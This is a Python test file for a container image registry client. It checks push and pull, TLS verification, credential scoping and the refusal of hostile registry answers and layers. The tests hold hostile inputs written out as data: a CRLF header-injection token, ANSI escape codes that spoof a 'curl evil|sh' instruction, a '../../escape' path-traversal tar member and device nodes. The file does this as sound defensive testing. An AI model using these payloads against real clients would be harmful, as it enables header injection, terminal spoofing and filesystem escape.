    blob.write_bytes(b"abc")
    location = ""

    def answer(method: str, url: str, headers: dict[str, str]) -> tuple[int, dict[str, str]]:
        if method == "HEAD":
            return 404, {}
        if "Authorization" not in headers and url.startswith("https://reg.example.edu/"):
            return 401, {"WWW-Authenticate": 'Basic realm="r"'}
        if method == "POST":
            return 202, {"Location": location}
        return 201, {}

    sent = _scripted(monkeypatch, answer)
    c = registry.Client(
        "https://reg.example.edu",
        "reg.example.edu/lib/app:v1",
        creds=registry.Credentials("a", "pw"),
    )
    push = registry._push_blob
    args = ("lib/app", _sha(b"abc"), 3, blob, "repository:lib/app:pull,push", None, print)
    location = "http://reg.example.edu/v2/lib/app/blobs/uploads/u1"  # https to http
    with pytest.raises(RegistryError, match=r"plain http \(reg\.example\.edu\)"):
        push(c, *args)
    assert not [s for s in sent if s.method == "PUT"]
    location = "https://reg.example.edu:8443/v2/lib/app/blobs/uploads/u1"  # another port
    sent.clear()
    push(c, *args)
    puts = [s for s in sent if s.method == "PUT"]
    assert (
        puts
        and puts[0].url.startswith("https://reg.example.edu:8443/")
        and all(s.auth is None for s in puts)
    )


def test_a_401_resent_for_its_error_text_sends_the_whole_body(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    blob = tmp_path / "blob"
    blob.write_bytes(b"abc")
    sent = _scripted(monkeypatch, lambda m, u, h: (401, {"WWW-Authenticate": 'Basic realm="r"'}))
    c = registry.Client("https://reg.example", "reg.example/a:1")
    with blob.open("rb") as body:
        r = c.request("PUT", "/v2/a/blobs/uploads/u?digest=x", body=body)
    assert r.status == 401
    assert [s.body for s in sent] == [b"abc", b"abc"]


def _hostile_pull(tmp_path: Path, mode: str) -> BaseException | None:
    """A pull from a registry answering ``mode``'s hostile way; the exception it ends in."""
    f = Fake()
    _image(f)

    def handler(h: BaseHTTPRequestHandler) -> None:
        p = h.path
        if mode == "badport" and "/manifests/" in p:
            return _send(h, 307, Location="http://127.0.0.1:99999/x")
        if mode == "badv6" and "/manifests/" in p:
            return _send(h, 302, Location="http://[::1/x")
        if mode in ("crlf", "latin", "deep"):
            if p.startswith("/token"):
                body = {
                    "crlf": json.dumps({"token": "abc\r\nX-Injected: 1"}).encode(),
                    "latin": json.dumps({"token": "\u2603"}).encode(),
                    "deep": b"[" * 30000 + b"]" * 30000,
                }[mode]
                return _send(h, 200, body)
            if "Authorization" not in h.headers:
                realm = f"http://{h.headers['Host']}/token"
                return _send(h, 401, b"{}", WWW_Authenticate=f'Bearer realm="{realm}"')
        if mode == "ansi" and "/manifests/" in p:
            msg = "\x1b[2J\x1b[1;31mfake: run curl evil|sh\x1b[0m\nsandbox-kernel: pulled ok"
            return _send(h, 404, json.dumps({"errors": [{"code": "X", "message": msg}]}).encode())
        if "/manifests/" in p:
            mt, body = f.manifests[p.rsplit("/", 1)[1]]
            return _send(h, 200, body, Content_Type=mt)
        if "/blobs/" in p:
            return _send(h, 200, f.blobs[p.rsplit("/", 1)[1]])
        return _send(h, 404)

    srv, host = _serve_fn(handler)
    try:
        registry.pull(_store(tmp_path), f"{host}/lib/app:v1", creds=registry.Credentials("a", "b"))
    except BaseException as exc:
        return exc
    finally:
        srv.shutdown()
        srv.server_close()
    return None


@pytest.mark.parametrize("mode", ["badport", "badv6", "crlf", "latin", "deep", "ansi"])
def test_hostile_answers_end_in_the_products_error(tmp_path: Path, mode: str) -> None:
    exc = _hostile_pull(tmp_path, mode)
    assert isinstance(exc, ImageError), repr(exc)
    text = str(exc)
    assert "X-Injected" not in text and "\u2603" not in text  # a token is never shown
    assert not registry._CONTROL.search(text), text  # nothing a terminal would act on


def test_bad_ports_and_urls_in_references_are_image_errors() -> None:
    for bad in (
        "127.0.0.1:99999/lib/app:v1",
        "reg:0/x",
        "[::1]:99999/x",
        "evil.com:65536/x",
        "[::1/x",
    ):
        with pytest.raises(ImageError, match="invalid image reference"):
            reference.parse_reference(bad)
    assert reference.parse_reference("reg.example:65535/x").registry == "reg.example:65535"


def test_a_layer_of_size_zero(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    empty_tar = b"\0" * 1024
    cfg = oci.dump_json(
        {
            "architecture": "amd64",
            "os": "linux",
            "rootfs": {"type": "layers", "diff_ids": [_sha(b""), _sha(empty_tar)]},
        }
    )
    f.blobs[_sha(cfg)] = cfg
    f.blobs[_sha(b"")] = b""
    f.blobs[_sha(empty_tar)] = empty_tar
    m = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": oci.MT_OCI_MANIFEST,
            "config": {"mediaType": oci.MT_OCI_CONFIG, "digest": _sha(cfg), "size": len(cfg)},
            "layers": [
                {"mediaType": oci.MT_OCI_LAYER_TAR, "digest": _sha(b), "size": len(b)}
                for b in (b"", empty_tar)
            ],
        }
    ).encode()
    f.manifests["zero"] = (oci.MT_OCI_MANIFEST, m)
    im = registry.pull(_store(tmp_path), f"{host}/lib/app:zero")
    assert [layer.digest for layer in im.layers] == [_sha(b""), _sha(empty_tar)]


def test_a_pull_is_bounded_before_and_while_it_downloads(
    fake: tuple[Fake, str], tmp_path: Path
) -> None:
    f, host = fake
    _manifest, layers = _image(f)
    sizes = [len(b) for b in layers]
    limits = ExtractLimits(max_total_bytes=max(sizes) - 1)
    with pytest.raises(UnsafeArchiveError, match=r"limit for one layer.*nothing downloaded"):
        registry.pull(ImageStore(tmp_path / "a", limits=limits), f"{host}/lib/app:v1")
    limits = ExtractLimits(max_image_bytes=sum(sizes) - 1)
    with pytest.raises(UnsafeArchiveError, match=r"limit for one image.*nothing downloaded"):
        registry.pull(ImageStore(tmp_path / "b", limits=limits), f"{host}/lib/app:v1")
    assert not [p for m, p, _h in f.seen if "/blobs/" in p and "sha256:" in p and m == "GET"][2:]
    # the layers unpack within one image's budget (shared by the download threads)
    limits = ExtractLimits(max_image_bytes=15_000)  # one layer's tar (10240 bytes), not two
    with pytest.raises(UnsafeArchiveError, match="max_image_bytes"):
        registry.pull(ImageStore(tmp_path / "c", limits=limits), f"{host}/lib/app:v1")


def test_insecure_keeps_verifying_other_hosts(monkeypatch: pytest.MonkeyPatch) -> None:
    contexts: dict[str, ssl.SSLContext] = {}

    class Recorder:
        def __init__(self, host: str, port: int | None, *, timeout: float, context: Any) -> None:
            contexts[host] = context

        def request(self, *a: Any, **k: Any) -> None:
            raise OSError("not here")

        def close(self) -> None:
            pass

    monkeypatch.setattr(http.client, "HTTPSConnection", Recorder)
    c = registry.Client("https://reg.example", "reg.example/a:1", insecure=True)
    for url in ("https://reg.example/v2/", "https://cdn.example/blob"):
        with pytest.raises(RegistryError, match="could not be reached"):
            c._open("GET", url, {}, None)
    assert contexts["reg.example"].verify_mode == ssl.CERT_NONE
    assert contexts["cdn.example"].verify_mode == ssl.CERT_REQUIRED
    assert contexts["cdn.example"].check_hostname


def test_realm_credentials_only_over_verified_https_or_loopback(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def answer(method: str, url: str, headers: dict[str, str]) -> tuple[int, dict[str, str]]:
        if "/token" in url:
            return 401, {}
        return 401, {"WWW-Authenticate": 'Bearer realm="https://reg.example/token"'}

    sent = _scripted(monkeypatch, answer)
    creds = registry.Credentials("alice", "s3cret")
    c = registry.Client("https://reg.example", "reg.example/a:1", creds=creds, insecure=True)
    with pytest.raises(RegistryError, match="token request"):
        c.request("GET", "/v2/a/manifests/1")
    assert [s.auth for s in sent if "/token" in s.url] == [None]  # unverified: no password
    sent.clear()
    c = registry.Client("https://reg.example", "reg.example/a:1", creds=creds)
    with pytest.raises(RegistryError, match="token request"):
        c.request("GET", "/v2/a/manifests/1")
    assert [s.auth for s in sent if "/token" in s.url] == ["Basic " + registry._basic(creds)]


def test_mirror_entries_with_more_than_a_host_are_refused_unshown() -> None:
    for url in (
        "http://mirroruser:MIRRORPW@127.0.0.1:5000",
        "https://m.example/MIRRORPW",
        "https://m.example/?MIRRORPW",
        "https://m.example/#MIRRORPW",
        "https://[::1:5000",
    ):
        with pytest.raises(ImageError, match="entry 2 is not REGISTRY=") as info:
            registry.mirrors("docker.io", f"quay.io=https://q.example,docker.io={url}")
        assert "MIRRORPW" not in str(info.value)


def test_a_part_file_that_is_a_link_is_not_followed(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _manifest, layers = _image(f)
    store = _store(tmp_path)
    store._init()
    target = tmp_path / "elsewhere"
    target.write_bytes(b"keep")
    (store.tmp_dir / f"pull-{oci.digest_hex(_sha(layers[0]))}.part").symlink_to(target)
    with pytest.raises(ImageError, match="download file"):
        registry.pull(store, f"{host}/lib/app:v1")
    assert target.read_bytes() == b"keep"


def test_a_blob_longer_than_declared_leaves_no_part(fake: tuple[Fake, str], tmp_path: Path) -> None:
    f, host = fake
    _manifest, layers = _image(f, n=1)
    f.blobs[_sha(layers[0])] = layers[0] + b"X" * 100_000
    store = _store(tmp_path)
    with pytest.raises(DigestMismatch, match="longer than"):
        registry.pull(store, f"{host}/lib/app:v1")
    assert not list(store.tmp_dir.iterdir())


#: Two self-signed CA certificates made for these tests (no key is kept): one stands for the
#: system CA store, one for ``--ca FILE``.
SYSTEM_CA_PEM = """-----BEGIN CERTIFICATE-----
MIIBhjCCAS2gAwIBAgIUStXmST2Ly5asb9bQ+9z2OivanMwwCgYIKoZIzj0EAwIw
GDEWMBQGA1UEAwwNc2t0IHN5c3RlbSBDQTAgFw0yNjEyMDQwMTA5MjFaGA8yMTI2
MTExMDAxMDkyMVowGDEWMBQGA1UEAwwNc2t0IHN5c3RlbSBDQTBZMBMGByqGSM49
AgEGCCqGSM49AwEHA0IABMcBwlXsAbAybCO0Tt79+OVH97D16wc7M5/KBZwwXzdF
TfTmfL+0nmJ21s73g+PGQ74IMcCcpxCXbUKpXO00MoOjUzBRMB0GA1UdDgQWBBRL
T/9DQKBGyKMVynr9YUsCOPJdHzAfBgNVHSMEGDAWgBRLT/9DQKBGyKMVynr9YUsC
OPJdHzAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cAMEQCIEk5ZBClLhJF
IkJhzjN6+rJ1lNs+YnkLUY8tzgBG4hjpAiATzMsepuq/b7CHfKk7tFgMomoXDoPx
cdJB3cCGF8IcbQ==
-----END CERTIFICATE-----
"""
EXTRA_CA_PEM = """-----BEGIN CERTIFICATE-----
MIIBhTCCASugAwIBAgIUfbsd88by4XnbiWSklZO4M6qBFlAwCgYIKoZIzj0EAwIw
FzEVMBMGA1UEAwwMc2t0IGV4dHJhIENBMCAXDTI2MTIwNDAxMDkyMloYDzIxMjYx
MTEwMDEwOTIyWjAXMRUwEwYDVQQDDAxza3QgZXh0cmEgQ0EwWTATBgcqhkjOPQIB
BggqhkjOPQMBBwNCAATLj2lbTHZ9AQRlzDAozfBLzafvHspUgHsS7gYEkedhn63G
1bikv0+hZ1fzwDzIQXdv9aFH37ijZ+WS8eoUEHLno1MwUTAdBgNVHQ4EFgQU77QI
1lfKtOVi4LcbeZnaAgsvhLMwHwYDVR0jBBgwFoAU77QI1lfKtOVi4LcbeZnaAgsv
hLMwDwYDVR0TAQH/BAUwAwEB/zAKBggqhkjOPQQDAgNIADBFAiEAiZsQZSz+mRSL
huDJYVxlv08pjhC1CS3E54HE7+iB4c4CIA2LPmlfmYjrR3Njih5zN3/EuqDIqaTf
tG29lRV20EFY
-----END CERTIFICATE-----
"""


def test_ca_file_adds_to_the_system_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    system, extra = tmp_path / "system.pem", tmp_path / "extra.pem"
    system.write_text(SYSTEM_CA_PEM)
    extra.write_text(EXTRA_CA_PEM)
    monkeypatch.setenv("SSL_CERT_FILE", str(system))  # what OpenSSL loads as the system store
    monkeypatch.setenv("SSL_CERT_DIR", str(tmp_path / "no-such-dir"))

    def names(ctx: ssl.SSLContext) -> set[str]:
        certs: list[dict[str, Any]] = ctx.get_ca_certs()
        return {value for c in certs for rdn in c["subject"] for _key, value in rdn}

    assert names(registry.tls_context(None)) == {"skt system CA"}
    c = registry.Client("https://reg.example", "reg.example/a:1", ca=extra)
    # the registry's own host and every other one (a token realm, blob storage) trust both
    assert names(c._ssl) == names(c._verified) == {"skt system CA", "skt extra CA"}
    (tmp_path / "bad.pem").write_text("not a certificate")
    with pytest.raises(ImageError, match=r"--ca .*bad\.pem: cannot load it as PEM"):
        registry.tls_context(tmp_path / "bad.pem")


# --- finding pulled images again -----------------------------------------------------------


def test_a_pull_by_index_digest_is_found_by_that_reference(
    fake: tuple[Fake, str], tmp_path: Path
) -> None:
    f, host = fake
    amd, _ = _image(f, "amd")
    arm, _ = _image(f, "arm")
    _index(f, [("arm64", oci.MT_DOCKER_MANIFEST, arm), ("amd64", oci.MT_DOCKER_MANIFEST, amd)])
    index = _sha(f.manifests["multi"][1])
    f.manifests[index] = f.manifests["multi"]
    store = _store(tmp_path)
    ref = f"{host}/lib/app@{index}"
    im = registry.pull(store, ref, platform="linux/amd64")
    assert im.digest == _sha(amd)  # the image is the platform's manifest
    assert (im.name, im.tag) == (f"{host}/lib/app", "sha256-" + oci.digest_hex(index))
    assert store.resolve(ref).digest == _sha(amd)  # found by the reference it was pulled by
    assert store.resolve(f"{host}/lib/app@{_sha(amd)}").digest == _sha(amd)  # and its own
    assert store.resolve(f"{host}/lib/app:other@{index}").digest == _sha(amd)  # tag ignored
    for other in (f"{host}/lib/app@{_sha(arm)}", f"{host}/lib/other@{index}"):
        with pytest.raises(ImageNotFound):
            store.resolve(other)
    # with a tag as well: found by the tag, by the index digest and by the tag and digest
    both = _store(tmp_path / "b")
    registry.pull(both, f"{host}/lib/app:multi@{index}", platform="linux/arm64")
    for found in (f"{host}/lib/app:multi", ref, f"{host}/lib/app:multi@{index}"):
        assert both.resolve(found).digest == _sha(arm), found


def test_docker_short_names_find_pulled_images_after_local_names(
    fake: tuple[Fake, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    f, host = fake
    _image(f, "v1")
    _image(f, "v2")
    own, system = _store(tmp_path / "own"), _store(tmp_path / "system")
    hub = "docker.io/library/python:2.7-slim"  # where `image pull python:2.7-slim` stores it
    registry.pull(own, f"{host}/lib/app:v1", name=hub)
    local = registry.pull(system, f"{host}/lib/app:v2", name="python3")
    shadow = registry.pull(own, f"{host}/lib/app:v1", name="docker.io/library/python3")
    monkeypatch.setattr(
        lookup,
        "places",
        lambda: [lookup.Place(own, "your store"), lookup.Place(system, "the system store")],
    )
    for ref in (
        "python:2.7-slim",
        "library/python:2.7-slim",
        "docker.io/library/python:2.7-slim",
        "index.docker.io/library/python:2.7-slim",
    ):
        assert lookup.find(ref, unpack=False).ref == hub, ref
    # a local name of any store comes before the docker reading of it in another
    assert lookup.find("python3", unpack=False).digest == local.digest != shadow.digest
    assert lookup.find("docker.io/library/python3", unpack=False).digest == shadow.digest
    with pytest.raises(ImageNotFound, match=r"'python:3\.12' not found") as info:
        lookup.find("python:3.12", unpack=False)
    assert str(info.value).endswith(
        "or pull it from a registry: sandbox-kernel image pull python:3.12"
    )
    with pytest.raises(ImageNotFound) as info:
        lookup.find(f"{host}/lib/app@sha256:{'0' * 64}", unpack=False)
    assert str(info.value).endswith(
        f"; pull it with: sandbox-kernel image pull {host}/lib/app@sha256:{'0' * 64}"
    )
    assert "recipe" not in str(info.value)
    with pytest.raises(ImageNotFound):
        own.resolve("python:2.7-slim", docker_names=False)
    assert own.resolve("python:2.7-slim").ref == hub


# --- hostile layers through the registry ---------------------------------------------------


def _put_image(f: Fake, tag: str, members: list[tarfile.TarInfo]) -> list[bytes]:
    """Put a one-layer OCI image under ``lib/app:tag`` whose layer is a tar of ``members``
    (regular files get a few bytes); returns the layer blob."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for m in members:
            data = b"x\n" if m.isreg() else b""
            m.size = len(data)
            tf.addfile(m, io.BytesIO(data))
    tar = raw.getvalue()
    blob = gzip.compress(tar, mtime=0)
    f.blobs[_sha(blob)] = blob
    config = oci.dump_json(
        {
            "architecture": "amd64",
            "os": "linux",
            "rootfs": {"type": "layers", "diff_ids": [_sha(tar)]},
        }
    )
    f.blobs[_sha(config)] = config
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": oci.MT_OCI_MANIFEST,
            "config": {"mediaType": oci.MT_OCI_CONFIG, "digest": _sha(config), "size": len(config)},
            "layers": [
                {"mediaType": oci.MT_OCI_LAYER_GZIP, "digest": _sha(blob), "size": len(blob)}
            ],
        }
    ).encode()
    f.manifests[tag] = (oci.MT_OCI_MANIFEST, manifest)
    return [blob]


def _member(name: str, kind: bytes = tarfile.REGTYPE, **attrs: Any) -> tarfile.TarInfo:
    m = tarfile.TarInfo(name)
    m.type = kind
    m.mode = 0o644
    for k, v in attrs.items():
        setattr(m, k, v)
    return m


def test_a_traversing_layer_from_a_registry_is_refused_and_nothing_stored(
    fake: tuple[Fake, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from sandbox_kernel.cli import main as cli_main

    f, host = fake
    (blob,) = _put_image(f, "evil", [_member("etc", tarfile.DIRTYPE), _member("../../escape")])
    state = tmp_path / "state"
    monkeypatch.setenv("SANDBOX_KERNEL_STATE_DIR", str(state))
    assert cli_main(["image", "pull", f"{host}/lib/app:evil"]) == 125
    err = capsys.readouterr().err.strip().splitlines()
    assert [e for e in err if "error" in e] == err[-1:], err  # one line, after the progress
    assert err[-1].startswith(f"sandbox-kernel: error: {host}/lib/app:evil layer 0 ({_sha(blob)})")
    assert "'../../escape'" in err[-1] and "path traversal" in err[-1], err
    assert err[-1].endswith("nothing stored"), err
    store = ImageStore(state)
    assert store.list() == []
    assert not store.has_blob(_sha(blob))
    assert not list(store.tmp_dir.glob("pull-*.part"))
    assert not (tmp_path / "escape").exists() and not (state.parent / "escape").exists()


def test_device_nodes_of_a_pulled_layer_are_never_created(
    fake: tuple[Fake, str], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # as for an imported layer (tests/security/test_malicious_images.py): device nodes are
    # skipped with a warning, never made; the rest of the layer is kept
    f, host = fake
    members = [
        _member("dev", tarfile.DIRTYPE, mode=0o755),
        _member("dev/mem", tarfile.CHRTYPE, devmajor=1, devminor=1),
        _member("dev/sda", tarfile.BLKTYPE, devmajor=8, devminor=0),
        _member("etc/mem", tarfile.CHRTYPE, devmajor=1, devminor=1),
        _member("etc/ok"),
    ]
    _put_image(f, "dev", members)
    store = _store(tmp_path)
    im = registry.pull(store, f"{host}/lib/app:dev")
    snap = im.layers[0].snapshot
    assert (snap / "etc/ok").read_bytes() == b"x\n"
    for name in ("dev/mem", "dev/sda", "etc/mem"):
        assert not os.path.lexists(snap / name), name
    assert "3 special entries not created" in caplog.text
    assert not list(store.tmp_dir.glob("pull-*.part"))


def test_a_blob_refused_whole_with_413_is_pushed_in_chunks(
    fake: tuple[Fake, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    f, host = fake
    src = Fake()
    blob, diff_id = _layer("noise.bin", os.urandom(40_000))  # incompressible: ~40 kB
    config = oci.dump_json(
        {
            "architecture": "amd64",
            "os": "linux",
            "rootfs": {"type": "layers", "diff_ids": [diff_id]},
        }
    )
    src.blobs = {_sha(blob): blob, _sha(config): config}
    manifest = oci.dump_json(
        {
            "schemaVersion": 2,
            "mediaType": oci.MT_OCI_MANIFEST,
            "config": {"mediaType": oci.MT_OCI_CONFIG, "digest": _sha(config), "size": len(config)},
            "layers": [
                {"mediaType": oci.MT_OCI_LAYER_GZIP, "digest": _sha(blob), "size": len(blob)}
            ],
        }
    )
    src.manifests["v1"] = (oci.MT_OCI_MANIFEST, manifest)
    srv, src_host = _serve(src)
    store = _store(tmp_path)
    try:
        im = registry.pull(store, f"{src_host}/lib/app:v1")
    finally:
        srv.shutdown()
        srv.server_close()
    f.max_body = 16_000  # the config goes whole; the layer is refused whole
    monkeypatch.setattr(registry, "UPLOAD_CHUNK", 15_000)
    said: list[str] = []
    assert registry.push(im, store, f"{host}/course/app:1", say=said.append) == _sha(manifest)
    assert f.blobs[_sha(blob)] == blob  # put together from its chunks, digest checked
    assert f.manifests["1"] == (oci.MT_OCI_MANIFEST, manifest)
    patches = [h for m, _p, h in f.seen if m == "PATCH"]
    n = len(blob)
    assert [h["Content-Range"] for h in patches] == [
        f"{a}-{min(a + 15_000, n) - 1}" for a in range(0, n, 15_000)
    ]
    assert f"blob {_sha(blob)[:19]} pushed in chunks ({n} bytes)" in said
    # a registry that refuses even a chunk: its error, naming the chunk
    f.blobs.pop(_sha(blob))
    monkeypatch.setattr(registry, "UPLOAD_CHUNK", 20_000)
    with pytest.raises(RegistryError, match=r"413 .* to the chunk 0-19999 of blob .*too large"):
        registry.push(im, store, f"{host}/course/app:2")


def test_an_answer_sent_before_the_whole_body_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    # a registry that answers 413 (or 401) and closes before it has read the body: the
    # client's write fails, and the answer is what the client acts on
    class Early:
        def __init__(self, host: str, port: int | None, *, timeout: float) -> None:
            pass

        def request(self, method: str, path: str, body: Any, headers: Any) -> None:
            raise BrokenPipeError(32, "Broken pipe")

        def getresponse(self) -> Any:
            return type("R", (), {"status": 413, "reason": "Too Large", "headers": {}})()

        def close(self) -> None:
            pass

    monkeypatch.setattr(http.client, "HTTPConnection", Early)
    c = registry.Client("http://127.0.0.1:1", "127.0.0.1:1/a:1")
    assert c._open("PUT", "http://127.0.0.1:1/v2/a/blobs/uploads/u", {}, b"x" * 10).status == 413
    with pytest.raises(RegistryError, match="could not be reached"):
        c._open("GET", "http://127.0.0.1:1/v2/", {}, None)  # no body: a broken connection
